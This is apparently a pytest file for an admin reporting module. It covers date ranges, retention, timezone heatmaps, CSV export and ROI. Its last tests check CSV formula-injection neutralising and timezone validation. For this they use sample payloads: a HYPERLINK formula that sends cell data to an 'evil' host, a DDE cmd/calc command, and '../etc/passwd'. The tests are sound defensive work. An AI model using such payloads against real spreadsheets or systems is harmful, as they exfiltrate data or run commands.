"""Report helpers: parameter checks, spans, local-time heatmap, CSV."""

from __future__ import annotations

from datetime import UTC, date, datetime

import pytest

from libs.runtime.errors import InvalidInput
from services.admin import logic


def test_date_range_checks_order_and_span() -> None:
    assert logic.date_range(date(2026, 1, 1), date(2026, 1, 1)) == (
        date(2026, 1, 1),
        date(2026, 1, 1),
    )
    with pytest.raises(InvalidInput) as err:
        logic.date_range(date(2026, 1, 2), date(2026, 1, 1))
    assert err.value.field == "to"
    with pytest.raises(InvalidInput):
        logic.date_range(date(2025, 1, 1), date(2026, 6, 1))


@pytest.mark.parametrize(
    ("raw", "expected"),
    [(None, (1, 3, 7, 14, 30, 90)), ("7,1,1", (1, 7)), ("0", (0,)), (" 3 , 30 ", (3, 30))],
)
def test_retention_days(raw: str | None, expected: tuple[int, ...]) -> None:
    assert logic.retention_days(raw) == expected


@pytest.mark.parametrize("raw", ["x", "1,,y", "-1", "366", ",".join(map(str, range(31)))])
def test_retention_days_rejects(raw: str) -> None:
    with pytest.raises(InvalidInput) as err:
        logic.retention_days(raw)
    assert err.value.field == "days"


def test_periods_cover_the_range_clipped() -> None:
    assert logic.periods(date(2026, 11, 25), date(2026, 12, 2), "week") == [
        (date(2026, 11, 25), date(2026, 11, 29)),
        (date(2026, 11, 30), date(2026, 12, 2)),
    ]
    assert logic.periods(date(2026, 1, 30), date(2026, 3, 1), "month") == [
        (date(2026, 1, 30), date(2026, 1, 31)),
        (date(2026, 2, 1), date(2026, 2, 28)),
        (date(2026, 3, 1), date(2026, 3, 1)),
    ]
    assert len(logic.periods(date(2026, 1, 1), date(2026, 1, 10), "day")) == 10


def test_heatmap_uses_each_zone_including_half_hours_and_dst() -> None:
    rows = [
        ("Asia/Tehran", datetime(2026, 11, 30, 10, 30, tzinfo=UTC), 2),  # Mon 14:00 local
        ("Asia/Tehran", datetime(2026, 11, 30, 10, 15, tzinfo=UTC), 1),  # Mon 13:45 local
        # New York: 2026-03-08 is the spring-forward day; 07:00 UTC is 03:00 EDT
        ("America/New_York", datetime(2026, 3, 8, 7, 0, tzinfo=UTC), 5),
        (None, datetime(2026, 11, 30, 20, 45, tzinfo=UTC), 1),  # default zone: Tue 00:15
        ("Not/AZone", datetime(2026, 11, 30, 20, 45, tzinfo=UTC), 1),  # unknown → default
    ]
    grid = logic.heatmap(rows, "Asia/Tehran")
    assert grid[0][14] == 2 and grid[0][13] == 1
    assert grid[6][3] == 5  # Sunday 03:00
    assert grid[1][0] == 2
    assert sum(map(sum, grid)) == 10


def test_csv_flattens_nested_columns() -> None:
    rows = [{"cohort": "2026-10-01", "size": 3, "retained": {"1": 2, "7": 1}}]
    assert logic.to_csv(rows, ["cohort", "size", "retained"]) == (
        "cohort,size,retained.1,retained.7\n2026-10-01,3,2,1\n"
    )
    assert logic.to_csv([], ["a", "b"]) == "a,b\n"
    assert logic.to_csv([{"name": "خرید", "n": 1}], ["name", "n"]) == "name,n\nخرید,1\n"


def test_active_hours_are_local_and_ranked() -> None:
    sessions = [
        ("Asia/Tehran", datetime(2026, 11, 30, 16, 40, tzinfo=UTC)),  # 20:10 local
        ("Asia/Tehran", datetime(2026, 11, 29, 16, 50, tzinfo=UTC)),  # 20:20 local
        (None, datetime(2026, 11, 30, 5, 0, tzinfo=UTC)),  # default zone: 08:30
        ("Europe/Berlin", datetime(2026, 11, 30, 7, 0, tzinfo=UTC)),  # 08:00 local
    ]
    assert logic.active_hours(sessions, "Asia/Tehran") == [
        {"hour": 8, "sessions": 2},
        {"hour": 20, "sessions": 2},
    ]
    assert logic.active_hours([], "UTC") == []


def test_tracker_cost_and_roi() -> None:
    from decimal import Decimal
    from types import SimpleNamespace

    cpi = SimpleNamespace(cost_model="cpi", cost_amount=Decimal("1000"), counting="on_install")
    assert logic.tracker_cost(cpi, {"new_users": 3, "verified": 0}) == 3000.0
    on_verify = SimpleNamespace(
        cost_model="cpi", cost_amount=Decimal("1000"), counting="on_verification"
    )
    assert logic.tracker_cost(on_verify, {"new_users": 3, "verified": 1}) == 1000.0
    total = SimpleNamespace(cost_model="total", cost_amount=Decimal("5e6"), counting="on_install")
    assert logic.tracker_cost(total, {"new_users": 0}) == 5_000_000.0
    free = SimpleNamespace(cost_model=None, cost_amount=None, counting="on_install")
    assert logic.tracker_cost(free, {"new_users": 9}) is None
    assert logic.roi(5000.0, 2000.0) == 1.5
    assert logic.roi(0.0, 2000.0) == -1.0
    assert logic.roi(10.0, None) is None and logic.roi(10.0, 0.0) is None


def test_merge_settings_replaces_adds_and_restores_defaults() -> None:
    stored = {"a": 1, "b": [1], "c": True}
    merged = logic.merge_settings(stored, {"a": 2, "b": None, "d": "x"})
    assert merged == {"a": 2, "c": True, "d": "x"}
    assert stored == {"a": 1, "b": [1], "c": True}  # not mutated
    assert logic.merge_settings({}, {"gone": None}) == {}


@pytest.mark.parametrize(
    ("name", "known"),
    [
        ("Asia/Tehran", True),
        ("UTC", True),
        ("Mars/Base", False),
        ("America", False),
        ("../etc/passwd", False),
        ("", False),
    ],
)
def test_is_timezone(name: str, known: bool) -> None:
    assert logic.is_timezone(name) is known


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil/?"&A1)', '\'=HYPERLINK("http://evil/?"&A1)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("-5", "-5"),
        ("+Inf", "+Inf"),
        ("d:dev-1", "d:dev-1"),
        ("مینا", "مینا"),
        (-5, -5),
        (None, None),
    ],
)
def test_csv_cells_cannot_be_formulas(value: object, written: object) -> None:
    assert logic.csv_cell(value) == written


def test_csv_lines_neutralise_formulas() -> None:
    assert logic.csv_lines([["=1+1", 2, None]]) == "'=1+1,2,\n"
